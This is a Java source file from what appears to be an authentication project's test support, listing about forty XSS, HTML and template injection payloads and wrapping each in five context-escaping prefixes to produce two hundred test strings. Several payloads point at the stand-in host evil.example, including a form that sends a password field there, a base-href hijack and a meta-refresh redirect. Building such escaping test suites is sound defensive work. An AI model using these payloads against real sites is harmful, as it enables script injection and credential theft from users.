package org.patronauth.examples.host;

import java.util.ArrayList;
import java.util.List;

/** Two hundred texts that become something else on a page that does not escape them. */
final class InjectionStrings {
    private static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert&#40;1&#41;</script></svg>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<body onload=alert(1)>",
            "<form action=//evil.example><input name=password>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css';</style>",
            "<a href=javascript:alert(1)>x</a>",
            "<button formaction=//evil.example>x</button>",
            "<details open ontoggle=alert(1)>",
            "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
            "<!--><script>alert(1)</script-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><x onclick=alert(1)/>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<plaintext>",
            "<object data=//evil.example></object>",
            "<embed src=//evil.example>",
            "<video><source onerror=alert(1)></video>",
            "<input autofocus onfocus=alert(1)>",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "//evil.example/x",
            "onmouseover=alert(1)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)",
            "{{constructor.constructor('alert(1)')()}}",
            "${7*7}<b>",
            "<%= 7*7 %>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\u003cscript\\u003ealert(1)",
            "\uff1cscript\uff1ealert(1)",
            "<scr\u0131pt>alert(1)</scr\u0131pt>",
            "\u202e<b>gnp</b>",
            "<x/style=x onpointerenter=alert(1)>");

    private InjectionStrings() {}

    /** Each payload by itself, and behind what ends an attribute, a text area, a title or a comment. */
    static List<String> all() {
        List<String> all = new ArrayList<>();
        for (String payload : PAYLOADS) {
            all.add(payload);
            all.add("\">" + payload);
            all.add("'>" + payload + "<x y='");
            all.add("</textarea></select></title>" + payload);
            all.add("--></style></script>" + payload + "\" onfocus=\"alert(1)");
        }
        return List.copyOf(all);
    }
}
